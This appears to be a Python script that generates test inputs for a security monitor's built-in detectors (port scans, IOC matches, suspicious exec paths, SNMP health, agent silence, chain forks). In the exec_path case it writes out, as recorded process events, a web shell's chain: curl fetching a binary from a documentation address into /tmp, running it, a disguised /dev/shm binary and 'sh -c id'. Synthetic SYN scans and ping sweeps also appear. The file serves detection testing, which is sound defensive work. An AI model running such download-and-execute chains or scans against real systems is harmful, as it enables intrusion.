"""Write the built-in detectors' testcases and, on request, their expected output.

    .venv/bin/python tests/detections/builtin/make_testcases.py             # rewrite the inputs
    .venv/bin/python tests/detections/builtin/make_testcases.py --expected  # ... and expected.jsonl

Each ``testcases/<detector>/<case>/`` holds ``input.jsonl``, an optional ``config.toml`` (and the IOC
list or certificates it names) and ``expected.jsonl`` (see replay.py). Where a collector's testcases
recorded what it publishes, those events are the input: device events of the discovery collector's
cases, SnmpSamples of the SNMP collector's, flow records of the flow collector's golden cases, exec
events and LossReports of the process collector's (kernel_capture is recorded from a kernel). The
other inputs are made here as the collectors make them (with recorded.py's flow_start); the SNMP
cases ``interface_down`` and ``error_spike`` are the switch_rates polls with the edits their
functions name. Event ids are derived from each event (``Stamper``) and a certificate file is kept
while its validity is unchanged, so a run without changes rewrites the same bytes. expected.jsonl
is written only with ``--expected``: review it in the diff; test_testcases.py compares, it never
rewrites. Each case's README says what it shows.
"""

from __future__ import annotations

import argparse
import asyncio
import dataclasses
import hashlib
import json
import shutil
import sys
import uuid
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from cryptography import x509
from google.protobuf import json_format

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from amoskys.detections.builtin.finding import FlowStart  # noqa: E402
from amoskys.events import EnvelopeStamper  # noqa: E402
from amoskys.proto import events_pb2 as ev  # noqa: E402
from tests.detections.builtin.recorded import flow_start  # noqa: E402
from tests.detections.builtin.replay import APPLIANCE, CASES_DIR, cases, run_case  # noqa: E402

COLLECTORS = ROOT / "tests" / "collectors"
S = 1_000_000_000
T0 = 1_767_225_600 * S  # 2026-01-01T00:00:00Z: the collectors' testcases start there too
AGENT = "agent-1"
D = ev.DeviceEvent


# ---------------------------------------------------------------- what a case is made of
class Stamper(EnvelopeStamper):
    """The publisher's stamper with ids that do not change between runs of this script: a boot id
    from the source's name, and an event id in the UUIDv7 layout from the event's time and sequence
    number (the publisher draws its last 62 bits at random)."""

    def __init__(self, source: str) -> None:
        super().__init__(source, boot_id=str(uuid.uuid5(uuid.NAMESPACE_URL, f"amoskys:{source}")))

    def stamp(self, envelope: ev.Envelope, ts_ns: int | None = None) -> ev.Envelope:
        super().stamp(envelope, ts_ns)
        tail = int.from_bytes(hashlib.sha256(f"{self.source}/{envelope.source_seq}".encode()).digest()[:8])
        ms = envelope.ts_ns // 1_000_000
        value = ms << 80 | 7 << 76 | (envelope.source_seq & 0xFFF) << 64 | 2 << 62 | tail >> 2
        envelope.event_id = str(uuid.UUID(int=value))
        return envelope


class Case:
    def __init__(self, doc: str) -> None:
        self.doc = doc
        self.lines: list[dict[str, Any]] = []
        self.files: dict[str, str | bytes] = {}

    def envelope(self, envelope: ev.Envelope, at_ns: int | None = None) -> None:
        body = json_format.MessageToDict(envelope, preserving_proto_field_name=True)
        self.lines.append({"at_ns": at_ns if at_ns is not None else envelope.ts_ns, "envelope": body})

    def flow_start(self, start: FlowStart) -> None:
        fields = dataclasses.asdict(start)
        self.lines.append({"at_ns": start.ts_ns, "flow_start": fields})

    def tick(self, at_ns: int) -> None:
        self.lines.append({"at_ns": at_ns, "tick": True})

    def batch(self, at_ns: int, sender: str, prev: bytes, digest: bytes) -> None:
        self.lines.append(
            {"at_ns": at_ns, "batch": {"sender": sender, "prev_digest": prev.hex(), "digest": digest.hex()}}
        )


def jsonl(path: Path) -> Iterator[dict[str, Any]]:
    for line in path.read_text().splitlines():
        if line:
            yield json.loads(line)


# ---------------------------------------------------------------- collectors' recorded outputs
def discovery_events(case: str) -> list[ev.Envelope]:
    """The DeviceEvents the discovery collector published for its testcase, in order, as the appliance's."""
    stamper = Stamper(APPLIANCE)
    out = []
    for line in jsonl(COLLECTORS / "discovery" / "testcases" / case / "expected.jsonl"):
        for e in line.get("events", ()):
            body = dict(e["device"])
            macs = {
                k: bytes.fromhex(body.pop(k).replace(":", "")) for k in ("mac", "previous_mac") if k in body
            }
            device = json_format.ParseDict(body, ev.DeviceEvent())
            for k, v in macs.items():
                setattr(device, k, v)
            out.append(stamper.stamp(ev.Envelope(device=device), ts_ns=e["ts_ns"]))
    return out


def snmp_samples(case: str) -> list[ev.Envelope]:
    """The SnmpSamples the SNMP collector published for its testcase (one per poll), as the appliance's."""
    stamper = Stamper(APPLIANCE)
    out = []
    for line in jsonl(COLLECTORS / "snmp" / "testcases" / case / "expected.jsonl"):
        if "snmp" not in line:
            continue
        body = line["snmp"]
        phys = [i.pop("phys_address", "") for i in body.get("interfaces", ())]
        sample = json_format.ParseDict(body, ev.SnmpSample())
        for iface, mac in zip(sample.interfaces, phys, strict=True):
            iface.phys_address = bytes.fromhex(mac.replace(":", ""))
        out.append(stamper.stamp(ev.Envelope(snmp=sample), ts_ns=line["ts_ns"]))
    return out


def process_events(case: str, source: str) -> list[ev.Envelope]:
    """The ProcessEvents and LossReports the process collector published for its testcase."""
    stamper = Stamper(source)
    out = []
    for line in jsonl(COLLECTORS / "process" / "testcases" / case / "expected.jsonl"):
        body = {k: v for k, v in line.items() if k in ("process", "loss")}
        if body:
            out.append(stamper.stamp(json_format.ParseDict(body, ev.Envelope()), ts_ns=line["ts_ns"]))
    return out


def _ts(text: str) -> int:
    day, frac = text.rstrip("Z").split(".")
    return int(datetime.fromisoformat(day).replace(tzinfo=UTC).timestamp()) * S + int(frac.ljust(9, "0"))


def flow_records(source: str) -> list[ev.Envelope]:
    """Every FlowRecord of the flow collector's golden cases (``amoskys flows read`` of their pcaps), as
    an agent's capture publishes them (at their last packet), in that order; each case a minute after
    the one before. The interim case's flow has four records (active timeout): one flow."""
    stamper = Stamper(source)
    out = []
    for n, folder in enumerate(
        sorted(p for p in (COLLECTORS / "flow" / "testcases").iterdir() if p.is_dir())
    ):
        for line in jsonl(folder / "expected.jsonl"):
            if "community_id" not in line:
                continue
            shift = n * 60 * S
            f = ev.FlowRecord(
                src_addr=line["src_addr"],
                dst_addr=line["dst_addr"],
                src_port=line["src_port"],
                dst_port=line["dst_port"],
                protocol=line["protocol"],
                vlan=line["vlan"],
                inner_vlan=line["inner_vlan"],
                ip_version=line["ip_version"],
                forward=ev.FlowDirection(**line["forward"]),
                reverse=ev.FlowDirection(**line["reverse"]),
                first_ts_ns=_ts(line["first_ts"]) + shift,
                last_ts_ns=_ts(line["last_ts"]) + shift,
                final=line["final"],
                end_reason=line["end_reason"].upper(),
                community_id=line["community_id"],
                interface=line["interface"] or "eth0",
                src_mac=bytes.fromhex((line["src_mac"] or "").replace(":", "")),
                dst_mac=bytes.fromhex((line["dst_mac"] or "").replace(":", "")),
            )
            out.append(stamper.stamp(ev.Envelope(flow=f), ts_ns=f.last_ts_ns))
    return sorted(out, key=lambda e: e.ts_ns)


# ---------------------------------------------------------------- new_device, mac_change
def recorded(description: str, *names: str, keep: Callable[[ev.Envelope], bool] = lambda e: True) -> Case:
    """A case of the discovery collector's recordings `names`, in order, with the events `keep` takes."""
    c = Case(description)
    for name in names:
        for e in discovery_events(name):
            if keep(e):
                c.envelope(e)
    return c


def new_device_arp_passive() -> Case:
    return recorded(
        "positive: the discovery collector's arp_passive recording: every NEW device, no other change",
        "arp_passive",
    )


def new_device_dhcp_lease() -> Case:
    return recorded(
        "positive: the discovery collector's dhcp_lease recording (devices first seen by DHCP)", "dhcp_lease"
    )


def new_device_known_devices() -> Case:
    return recorded(
        "negative: the changes of known devices (SEEN, IP_CHANGED, MAC_CHANGED, GONE) of the recordings",
        "arp_passive",
        "gone_and_back",
        "dhcp_lease",
        keep=lambda e: e.device.change != D.NEW,
    )


def mac_change_arp_passive() -> Case:
    return recorded("positive: arp_passive, where 192.168.1.20 answers from another MAC", "arp_passive")


def mac_change_gone_and_back() -> Case:
    return recorded(
        "negative: devices that go and come back with their own MAC (gone_and_back, dhcp_lease)",
        "gone_and_back",
        "dhcp_lease",
    )


# ---------------------------------------------------------------- port_scan, ioc
SCAN_PORTS = [22, 80, 443, 21, 23, 25, 53, 110, 135, 139, 143, 445, 993, 995, 1723, 3306, 3389, 5900, 8080]


def syn(dst: str, port: int, ts_ns: int) -> FlowStart:
    """A SYN of a scanner on the LAN (one source port, as nmap's SYN scan uses), seen by the appliance."""
    return dataclasses.replace(
        flow_start("192.168.1.66", dst, port, ts_ns=ts_ns), sport=61_034, interface="br-lan"
    )


def port_scan_syn_scan() -> Case:
    """A SYN scan of 130 ports of one host within 1.3 s (the common ports first, as nmap orders them),
    seen by the appliance's capture: reported when the 100th distinct port is reached; the rest of the
    scan counts afresh and stays under the threshold."""
    c = Case("positive: a 130-port SYN scan of one host within 1.3 s")
    ports = SCAN_PORTS + [p for p in range(1, 200) if p not in SCAN_PORTS][: 130 - len(SCAN_PORTS)]
    for i, port in enumerate(ports):
        c.flow_start(syn("192.168.1.10", port, T0 + i * 10_000_000))
    return c


def port_scan_ping_sweep() -> Case:
    c = Case("positive: an ICMP echo sweep of 60 hosts of a /24 within 6 s (hosts, not ports)")
    for i in range(60):
        start = flow_start("192.168.1.66", f"192.168.1.{i + 1}", 0, ts_ns=T0 + i * 100_000_000, proto=1)
        c.flow_start(dataclasses.replace(start, sport=8, interface="br-lan"))  # ICMP echo request
    return c


def port_scan_slow_scan() -> Case:
    c = Case("negative: 150 ports probed one every 2 s: never 100 within the 60 s window")
    for i in range(150):
        c.flow_start(syn("192.168.1.10", 1000 + i, T0 + i * 2 * S))
    return c


def port_scan_recorded_flows() -> Case:
    c = Case("negative: every flow of the flow collector's golden cases, as an agent's records")
    for e in flow_records(AGENT):
        c.envelope(e)
    return c


IOC_LIST = (
    "# feed: example threat list\n8.8.8.8\n2001:db8::b/128  # a host\n198.51.100.0/24\nnot-an-address\n"
)


def ioc_recorded_flows() -> Case:
    """The golden flows as an agent's records, and two flow starts of the appliance's capture, against
    a list naming two of their peers and a network (its bad line is skipped)."""
    c = Case("positive: recorded flows and flow starts to or from listed addresses")
    c.files["ioc.txt"] = IOC_LIST
    c.files["config.toml"] = '[detections.ioc]\nioc_files = ["ioc.txt"]\n'
    c.tick(T0 - S)
    for e in flow_records(AGENT):
        c.envelope(e)
    late = T0 + 3600 * S
    c.flow_start(flow_start("198.51.100.23", "192.168.1.10", 22, ts_ns=late, host=APPLIANCE))
    c.flow_start(flow_start("192.168.1.10", "203.0.113.9", 443, ts_ns=late + S, host=APPLIANCE))
    return c


def ioc_unlisted() -> Case:
    c = Case("negative: the same flows against a list naming none of their addresses")
    c.files["ioc.txt"] = "# feed\n203.0.113.0/24\n2001:db8:bad::/48\n"
    c.files["config.toml"] = '[detections.ioc]\nioc_files = ["ioc.txt"]\n'
    c.tick(T0 - S)
    for e in flow_records(AGENT):
        c.envelope(e)
    c.flow_start(flow_start("192.168.1.10", "198.51.100.9", 443, ts_ns=T0 + 3600 * S, host=APPLIANCE))
    return c


# ---------------------------------------------------------------- exec_path
def _exec(stamper: EnvelopeStamper, ts: int, pid: int, exe: str, argv: list[str], cwd: str) -> ev.Envelope:
    p = ev.ProcessEvent(
        kind=ev.ProcessEvent.EXEC,
        pid=pid,
        ppid=pid - 1,
        exe=exe,
        argv=argv,
        user="www-data",
        uid=33,
        start_time_ns=ts - 1_000_000,
        cgroup="/system.slice/nginx.service",
        cwd=cwd,
    )
    return stamper.stamp(ev.Envelope(process=p), ts_ns=ts)


def exec_path_dropped_binaries() -> Case:
    """A web shell's chain as the process collector reports it: a binary fetched to /tmp, one run from
    /dev/shm, one whose file was deleted after it started; then its shell and curl from /usr/bin."""
    c = Case("positive: execs from /tmp, /dev/shm and a deleted file (and from /usr/bin: not reported)")
    s = Stamper(AGENT)
    c.envelope(_exec(s, T0, 4101, "/usr/bin/curl", ["curl", "-so", "/tmp/.x", "http://203.0.113.9/x"], "/"))
    c.envelope(_exec(s, T0 + S, 4102, "/tmp/.x", ["/tmp/.x", "-d"], "/tmp"))
    c.envelope(_exec(s, T0 + 2 * S, 4103, "/dev/shm/kworker", ["[kworker/0:1]"], "/dev/shm"))
    c.envelope(_exec(s, T0 + 3 * S, 4104, "/var/lib/app/run (deleted)", ["run"], "/var/lib/app"))
    c.envelope(_exec(s, T0 + 4 * S, 4105, "/usr/bin/dash", ["sh", "-c", "id"], "/"))
    return c


def exec_path_recorded_execs() -> Case:
    c = Case("negative: the process collector's recorded execs and exits (kernel_capture, fork_exec_exit)")
    for e in process_events("kernel_capture", AGENT) + process_events("fork_exec_exit", AGENT):
        c.envelope(e)
    return c


def exec_path_configured_paths() -> Case:
    c = Case("settings: paths = [/var/tmp], deleted = false: /var/tmp reported; /tmp, a deleted file not")
    c.files["config.toml"] = '[detections.exec_path]\npaths = ["/var/tmp"]\ndeleted = false\n'
    s = Stamper(AGENT)
    c.envelope(_exec(s, T0, 5001, "/tmp/.x", ["/tmp/.x"], "/tmp"))
    c.envelope(_exec(s, T0 + S, 5002, "/var/lib/app/run (deleted)", ["run"], "/"))
    c.envelope(_exec(s, T0 + 2 * S, 5003, "/var/tmp/upd", ["/var/tmp/upd", "--now"], "/var/tmp"))
    c.envelope(_exec(s, T0 + 3 * S, 5004, "/var/tmpx/a", ["a"], "/"))
    return c


# ---------------------------------------------------------------- snmp_health
def snmp_health_device_unreachable() -> Case:
    c = Case("positive: the SNMP collector's malformed_agent: the device stops answering, then answers")
    for e in snmp_samples("malformed_agent"):
        c.envelope(e)
    return c


def snmp_health_switch_rates() -> Case:
    c = Case("negative: switch_rates (Gi0/3 down from the first poll) and agent_restart (counters reset)")
    for e in snmp_samples("switch_rates") + snmp_samples("agent_restart"):
        c.envelope(e)
    return c


def snmp_health_interface_down() -> Case:
    """switch_rates' polls, the third with Gi0/1 (the uplink) ifOperStatus down(2) and Te1/1
    lowerLayerDown(7): what the collector publishes when a link drops between two polls."""
    c = Case("positive: switch_rates with two interfaces up at poll 2 and down at poll 3")
    samples = snmp_samples("switch_rates")
    for i in samples[2].snmp.interfaces:
        if i.name in ("Gi0/1", "Te1/1"):
            i.oper_status = 2 if i.name == "Gi0/1" else 7
    for e in samples:
        c.envelope(e)
    return c


def snmp_health_error_spike() -> Case:
    """switch_rates' polls with Gi0/1's ifInErrors counter: 3 at poll 1, 5 at poll 2 (2 errors: too
    few), 905 at poll 3 (900 errors in 11,400 packets, 7.9%: a spike)."""
    c = Case("positive: switch_rates with Gi0/1's input errors jumping by 900 between polls 2 and 3")
    samples = snmp_samples("switch_rates")
    for sample, errors in zip(samples, (3, 5, 905), strict=True):
        for i in sample.snmp.interfaces:
            if i.name == "Gi0/1":
                i.in_errors = errors
    for e in samples:
        c.envelope(e)
    return c


# ---------------------------------------------------------------- loss
def loss_recorded_loss_reports() -> Case:
    c = Case("positive: the process collector's LossReports (sequence gaps) among its other events")
    recorded = process_events("sequence_gap", AGENT) + process_events("malformed", AGENT)
    for e in sorted(recorded, key=lambda e: e.ts_ns):
        c.envelope(e)
    return c


def loss_no_loss() -> Case:
    c = Case("negative: exec events and heartbeats: nothing lost, nothing reported")
    for e in process_events("kernel_capture", AGENT):
        c.envelope(e)
    s = Stamper(AGENT)
    c.envelope(s.stamp(ev.Envelope(heartbeat=_heartbeat(AGENT, T0)), ts_ns=T0))
    return c


# ---------------------------------------------------------------- silent
def _heartbeat(host: str, ts: int, interval: float = 10.0) -> ev.Heartbeat:
    return ev.Heartbeat(
        version="0.3.0",
        hostname=host,
        mode="agent",
        started_ns=T0 - 3600 * S,
        uptime_seconds=(ts - T0) / S + 3600,
        collectors_running=3,
        python="3.11.2",
        os="Linux 6.1.0-18-amd64 x86_64",
        addresses=["192.168.1.21"],
        interval_seconds=interval,
    )


def silent_agent_goes_quiet() -> Case:
    """agent-1 beats every 10 s and stops after its third; the detections tick every 5 s. Silent after
    3 intervals: reported at the first tick past 30 s, once; a heartbeat ends the silence, and the next
    silence is reported again. The appliance's own heartbeats are never judged."""
    c = Case("positive: an agent that stops its heartbeats, comes back, and stops again")
    agent, box = Stamper(AGENT), Stamper(APPLIANCE)
    beats = [0, 10, 20, 100, 110]
    for t in range(0, 170, 5):
        at = T0 + t * S
        if t in beats:
            c.envelope(agent.stamp(ev.Envelope(heartbeat=_heartbeat(AGENT, at)), ts_ns=at), at + 2_000_000)
        if t == 0:
            c.envelope(box.stamp(ev.Envelope(heartbeat=_heartbeat(APPLIANCE, at)), ts_ns=at), at)
        c.tick(at + 500_000_000)
    return c


def silent_agents_beating() -> Case:
    c = Case("negative: two agents beating every 10 s (one a second late each time); ticks every second")
    one, two = Stamper(AGENT), Stamper("agent-2")
    for t in range(0, 120):
        at = T0 + t * S
        if t % 10 == 0:
            c.envelope(one.stamp(ev.Envelope(heartbeat=_heartbeat(AGENT, at)), ts_ns=at), at)
        if t % 10 == 1:
            c.envelope(two.stamp(ev.Envelope(heartbeat=_heartbeat("agent-2", at)), ts_ns=at), at + S)
        c.tick(at + 500_000_000)
    return c


# cert_expiry has no recorded case: no certificate is ever committed (its tests make theirs).
# ---------------------------------------------------------------- chain_fork
def _digest(text: str) -> bytes:
    return hashlib.sha256(text.encode()).digest()


def chain_fork_two_histories() -> Case:
    """agent-7's chain a→b→c, then a batch d' naming b as its predecessor (b's successor is c): a fork
    (two publishers hold its key, or its store came back from an old copy)."""
    c = Case("positive: a batch chaining to a predecessor that already has another successor")
    a, b, cc, d2 = (_digest(f"agent-7 batch {x}") for x in ("a", "b", "c", "d'"))
    c.batch(T0, "agent-7", b"", a)
    c.batch(T0 + S, "agent-7", a, b)
    c.batch(T0 + 2 * S, "agent-7", b, cc)
    c.batch(T0 + 3 * S, "agent-7", b, d2)
    return c


def chain_fork_straight_chains() -> Case:
    c = Case("negative: straight chains, a re-sent batch and a restart from genesis")
    prev = {"agent-7": b"", "agent-8": b""}
    for n in range(6):
        for sender in prev:
            d = _digest(f"{sender} batch {n}")
            c.batch(T0 + n * S, sender, prev[sender], d)
            if n == 2:
                c.batch(T0 + n * S + 1, sender, prev[sender], d)  # re-sent
            prev[sender] = d
    c.batch(T0 + 10 * S, "agent-7", b"", _digest("agent-7 after restart"))
    return c


CASES: dict[str, Callable[[], Case]] = {
    "new_device/arp_passive": new_device_arp_passive,
    "new_device/dhcp_lease": new_device_dhcp_lease,
    "new_device/known_devices": new_device_known_devices,
    "mac_change/arp_passive": mac_change_arp_passive,
    "mac_change/gone_and_back": mac_change_gone_and_back,
    "port_scan/syn_scan": port_scan_syn_scan,
    "port_scan/ping_sweep": port_scan_ping_sweep,
    "port_scan/slow_scan": port_scan_slow_scan,
    "port_scan/recorded_flows": port_scan_recorded_flows,
    "ioc/recorded_flows": ioc_recorded_flows,
    "ioc/unlisted": ioc_unlisted,
    "exec_path/dropped_binaries": exec_path_dropped_binaries,
    "exec_path/recorded_execs": exec_path_recorded_execs,
    "exec_path/configured_paths": exec_path_configured_paths,
    "snmp_health/device_unreachable": snmp_health_device_unreachable,
    "snmp_health/interface_down": snmp_health_interface_down,
    "snmp_health/error_spike": snmp_health_error_spike,
    "snmp_health/switch_rates": snmp_health_switch_rates,
    "loss/recorded_loss_reports": loss_recorded_loss_reports,
    "loss/no_loss": loss_no_loss,
    "silent/agent_goes_quiet": silent_agent_goes_quiet,
    "silent/agents_beating": silent_agents_beating,
    "chain_fork/two_histories": chain_fork_two_histories,
    "chain_fork/straight_chains": chain_fork_straight_chains,
}


def _not_after(pem: bytes) -> datetime:
    return x509.load_pem_x509_certificate(pem).not_valid_after_utc


def write_case(name: str) -> None:
    case = CASES[name]()
    folder = CASES_DIR / name
    expected = folder / "expected.jsonl"
    kept = expected.read_bytes() if expected.exists() else None
    old_certs = {p.name: p.read_bytes() for p in folder.glob("*.crt")}
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    if kept is not None:
        expected.write_bytes(kept)
    (folder / "input.jsonl").write_text("".join(json.dumps(x, ensure_ascii=False) + "\n" for x in case.lines))
    (folder / "README").write_text(case.doc + "\n")
    for file, content in case.files.items():
        path = folder / file
        if isinstance(content, bytes):
            old = old_certs.get(file)
            if old is not None and _not_after(old) == _not_after(content):
                content = old  # the same validity: keep the file as it was (a new key differs)
            path.write_bytes(content)
        else:
            path.write_text(content)


def main(argv: list[str]) -> int:
    p = argparse.ArgumentParser(description=(__doc__ or "").split("\n")[0])
    p.add_argument("--expected", action="store_true", help="also rewrite every case's expected.jsonl")
    args = p.parse_args(argv)
    for name in CASES:
        write_case(name)
    for name in cases():
        count = len((CASES_DIR / name / "input.jsonl").read_text().splitlines())
        if args.expected:
            out = asyncio.run(run_case(name))
            (CASES_DIR / name / "expected.jsonl").write_text(out)
            count_out = len(out.splitlines())
            print(f"{name}: {count} inputs, {count_out} findings written to expected.jsonl")
        else:
            print(f"{name}: {count} inputs")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
